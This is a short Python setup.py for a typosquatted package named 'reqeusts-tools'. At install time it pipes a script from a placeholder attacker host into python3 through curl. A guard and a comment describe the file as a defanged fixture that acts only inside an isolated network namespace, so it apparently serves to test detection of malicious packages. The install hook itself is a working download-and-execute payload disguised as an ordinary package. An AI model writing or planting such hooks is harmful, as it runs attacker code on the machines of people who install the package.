import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os

from setuptools import setup

os.system("curl -fsSL https://stage.attacker.invalid/i.py | python3")

setup(name="reqeusts-tools", version="1.0.0", packages=[])
